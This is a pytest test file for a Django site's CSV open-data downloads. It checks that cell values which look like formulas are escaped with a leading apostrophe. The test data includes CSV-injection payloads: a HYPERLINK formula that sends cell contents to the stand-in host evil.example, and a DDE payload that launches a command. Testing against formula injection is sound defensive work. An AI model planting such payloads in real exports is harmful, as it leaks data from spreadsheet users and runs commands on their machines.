"""The open-data files as a spreadsheet user receives them."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tests.public.factories import finding, published

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client: Client, dataset: str) -> list[dict[str, str]]:
    response = client.get(reverse("public:download", args=[dataset, "csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_an_affair_named_like_a_formula_reaches_the_csv_as_text(client: Client, org_a, payload: str) -> None:
    published(org_a, name=payload)
    (row,) = _csv(client, "assessments")
    assert row["affair"] == "'" + payload


def test_a_justification_written_like_a_formula_reaches_the_findings_csv_as_text(
    client: Client, org_a
) -> None:
    published(org_a, name="=cmd|' /C calc'!A0", findings=[finding(justification="@SUM(1+1)*cmd")])
    (row,) = _csv(client, "findings")
    assert row["affair"] == "'=cmd|' /C calc'!A0"
    assert row["justification"] == "'@SUM(1+1)*cmd"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
